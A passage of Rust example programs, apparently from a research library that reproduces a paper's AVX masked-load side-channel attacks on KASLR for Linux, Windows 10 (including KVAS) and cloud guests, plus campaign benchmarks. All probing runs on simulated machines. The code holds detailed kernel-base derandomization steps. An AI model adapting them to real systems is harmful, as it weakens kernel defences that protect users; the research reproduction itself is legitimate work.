    for m in matcher.find_all(&map) {
        let ok = truth.library_base(m.name) == Some(m.base);
        println!(
            "  {:<22} at {} [{}]",
            m.name,
            m.base,
            if ok { "correct" } else { "WRONG" }
        );
        assert!(ok);
    }
}
