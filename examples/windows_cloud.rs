//! Windows 10 KASLR/KVAS breaks and the three cloud scenarios
//! (paper §IV-G and §IV-H).
//!
//! ```text
//! cargo run --release --example windows_cloud
//! ```

use avx_channel::attacks::cloud::run_scenario;
use avx_channel::attacks::windows::kernel_base_from_shadow;
use avx_channel::report::fmt_seconds;
use avx_channel::{Prober, SimProber, Threshold, WindowsKaslrAttack};
use avx_mmu::VirtAddr;
use avx_os::cloud::CloudScenario;
use avx_os::windows::{WindowsConfig, WindowsSystem, WindowsVersion, WIN_KERNEL_SLOTS};
use avx_uarch::CpuProfile;

fn main() {
    windows_18bit();
    windows_kvas();
    clouds();
}

/// §IV-G: 18 bits of Windows KASLR entropy from a 2 MiB-granular scan.
fn windows_18bit() {
    println!("== Windows 10: 18-bit region scan ({WIN_KERNEL_SLOTS} candidates) ==");
    let system = WindowsSystem::build(WindowsConfig::default());
    let (machine, truth) = system.into_machine(CpuProfile::alder_lake_i5_12400f(), 21);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user_scratch, 16);

    let attack = WindowsKaslrAttack::new(th);
    let scan = attack.find_kernel_region(&mut p);
    println!(
        "kernel region (5 × 2 MiB pages) at {} — slot {} of {WIN_KERNEL_SLOTS} — in {}",
        scan.base.expect("found"),
        scan.slot.expect("found"),
        fmt_seconds(scan.total_cycles as f64 / (p.clock_ghz() * 1e9))
    );
    assert_eq!(scan.base, Some(truth.kernel_base));
    println!("=> 18 bits of KASLR entropy derandomized.");

    // §IV-G continues: "break the remaining 9 bits of entropy" — the
    // 4 KiB-randomized entry point — with the TLB attack while the
    // victim performs syscalls.
    let entry = attack
        .refine_entry_point(&mut p, scan.base.unwrap(), |p| {
            avx_os::windows::perform_syscall(p.machine_mut(), &truth)
        })
        .expect("entry page located");
    println!("entry page via TLB attack: {entry} (truth {})", truth.entry);
    assert_eq!(entry, truth.entry.align_down(4096));
    println!("=> all 27 bits broken.\n");
}

/// §IV-G: KVAS-enabled Windows 10 1709 — find the shadow entry pages.
fn windows_kvas() {
    println!("== Windows 10 1709 with KVAS (Meltdown mitigation) ==");
    let system = WindowsSystem::build(WindowsConfig {
        version: WindowsVersion::V1709,
        kvas: true,
        fixed_slot: None,
        seed: 22,
    });
    let (machine, truth) = system.into_machine(CpuProfile::skylake_i7_6600u(), 22);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user_scratch, 16);

    let attack = WindowsKaslrAttack::new(th);
    // A 4 KiB-granular sweep; windowed here (the full 512 GiB sweep is
    // the same loop — 8 s on the paper's hardware).
    let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 2048 * 4096);
    let shadow = attack
        .find_kvas_shadow(&mut p, window, 4096)
        .expect("three consecutive 4 KiB pages found");
    let base = kernel_base_from_shadow(shadow);
    println!("KiSystemCall64Shadow pages at {shadow}");
    println!(
        "kernel base = shadow - 0x298000 = {base} (truth {})",
        truth.kernel_base
    );
    assert_eq!(base, truth.kernel_base);
    println!("=> KASLR broken despite KVAS.\n");
}

/// §IV-H: Amazon EC2, Google GCE and Microsoft Azure presets.
fn clouds() {
    println!("== cloud guests ==");
    for scenario in CloudScenario::all(1234) {
        let report = run_scenario(&scenario, 23);
        println!("{report}");
        assert!(report.base_correct);
    }
    println!("=> all three cloud guests derandomized.");
}
