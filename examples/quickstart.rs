//! Quickstart: break Linux KASLR in a few lines.
//!
//! Builds a KASLR-randomized Linux machine model, calibrates the
//! mapped/unmapped threshold from the attacker's own pages (no kernel
//! knowledge needed), probes the 512 candidate offsets with all-zero-
//! mask AVX loads (fed through the batched probe pipeline), and
//! recovers the kernel base.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```

use avx_channel::report::fmt_seconds;
use avx_channel::{KernelBaseFinder, Prober, SimProber, Threshold};
use avx_os::linux::{LinuxConfig, LinuxSystem};
use avx_uarch::CpuProfile;

fn main() {
    // A Linux machine with a secret KASLR slide (seed it differently
    // and the kernel moves).
    let seed = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(2024u64);
    let system = LinuxSystem::build(LinuxConfig::seeded(seed));
    let (machine, truth) = system.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);

    // The attacker: an unprivileged process probing with masked loads.
    let mut prober = SimProber::new(machine);

    // §IV-B calibration: a masked store on an own, never-written page
    // times exactly like a kernel-mapped load (dirty-bit assist).
    let threshold = Threshold::calibrate(&mut prober, truth.user.calibration, 16);
    println!("calibrated threshold: {:.1} cycles", threshold.boundary());

    // Probe all 512 candidate 2 MiB offsets, twice each (keep the 2nd).
    let scan = KernelBaseFinder::new(threshold).scan(&mut prober);

    match scan.base {
        Some(base) => {
            println!("recovered kernel base: {base}");
            println!("actual kernel base:    {}", truth.kernel_base);
            println!(
                "probing {} / total {}",
                fmt_seconds(scan.probing_cycles as f64 / (prober.clock_ghz() * 1e9)),
                fmt_seconds(scan.total_cycles as f64 / (prober.clock_ghz() * 1e9)),
            );
            assert_eq!(base, truth.kernel_base, "KASLR defeated");
            println!("=> KASLR broken (9 bits of entropy gone).");
        }
        None => println!("no mapped run found — try another seed"),
    }
}
