//! The Table I methodology, generalized: run every §IV attack scenario
//! across several CPU profiles, with trials parallelized via rayon —
//! and, with `--grid`, across the named noise environments comparing
//! fixed vs adaptive probe budgets.
//!
//! ```text
//! cargo run --release --example campaign            # 4 trials/cell
//! cargo run --release --example campaign -- 12      # 12 trials/cell
//! cargo run --release --example campaign -- 4 --grid   # + noise grid
//! ```

use avx_channel::attacks::campaign::{Campaign, CampaignConfig, Scenario};
use avx_channel::report::fmt_seconds;
use avx_channel::Sampling;
use avx_uarch::CpuProfile;

fn main() {
    let trials = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(4u64);
    let grid = std::env::args().any(|a| a == "--grid");

    // One cell: a single scenario on a single CPU.
    let row = Scenario::KernelBase.campaign(
        &CpuProfile::alder_lake_i5_12400f(),
        CampaignConfig::new(trials, 7),
    );
    println!("single cell: {row}\n");

    // The full matrix: all eight paper attacks on every profile whose
    // probing primitive supports them.
    let campaign = Campaign::full(CampaignConfig::new(trials, 7));
    println!(
        "full campaign: {} scenarios x {} profiles, {trials} trials per cell",
        campaign.scenarios.len(),
        campaign.profiles.len()
    );
    for row in campaign.run() {
        println!(
            "  {:<34} {:<11} probing {:>9}  total {:>9}  {:>6.1} p/addr  accuracy {:>7.2} % ({} records)",
            row.cpu,
            row.target,
            fmt_seconds(row.probing_seconds),
            fmt_seconds(row.total_seconds),
            row.probes_per_address,
            row.accuracy.percent(),
            row.accuracy.total,
        );
    }

    if grid {
        // The noise-scenario matrix: one attack across every noise
        // preset, fixed-budget vs adaptive sampling.
        println!("\nnoise grid (kernel base, i5-12400F):");
        for sampling in [Sampling::fixed_budget(), Sampling::adaptive()] {
            let campaign =
                Campaign::noise_grid(CampaignConfig::new(trials, 7).with_sampling(sampling));
            let campaign = Campaign {
                scenarios: vec![Scenario::KernelBase],
                profiles: vec![CpuProfile::alder_lake_i5_12400f()],
                ..campaign
            };
            for row in campaign.run() {
                println!(
                    "  {:<8} {:<13} {:>6.1} p/addr  accuracy {:>7.2} %",
                    row.noise,
                    row.sampling,
                    row.probes_per_address,
                    row.accuracy.percent(),
                );
            }
        }
    }
}
