//! The Table I methodology, generalized: run every §IV attack scenario
//! across several CPU profiles, with trials parallelized via rayon.
//!
//! ```text
//! cargo run --release --example campaign            # 4 trials/cell
//! cargo run --release --example campaign -- 12      # 12 trials/cell
//! ```

use avx_channel::attacks::campaign::{Campaign, CampaignConfig, Scenario};
use avx_channel::report::fmt_seconds;
use avx_uarch::CpuProfile;

fn main() {
    let trials = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(4u64);

    // One cell: a single scenario on a single CPU.
    let row = Scenario::KernelBase.campaign(
        &CpuProfile::alder_lake_i5_12400f(),
        CampaignConfig { trials, seed0: 7 },
    );
    println!("single cell: {row}\n");

    // The full matrix: all eight paper attacks on every profile whose
    // probing primitive supports them.
    let campaign = Campaign::full(CampaignConfig { trials, seed0: 7 });
    println!(
        "full campaign: {} scenarios x {} profiles, {trials} trials per cell",
        campaign.scenarios.len(),
        campaign.profiles.len()
    );
    for row in campaign.run() {
        println!(
            "  {:<34} {:<11} probing {:>9}  total {:>9}  accuracy {:>7.2} % ({} records)",
            row.cpu,
            row.target,
            fmt_seconds(row.probing_seconds),
            fmt_seconds(row.total_seconds),
            row.accuracy.percent(),
            row.accuracy.total,
        );
    }
}
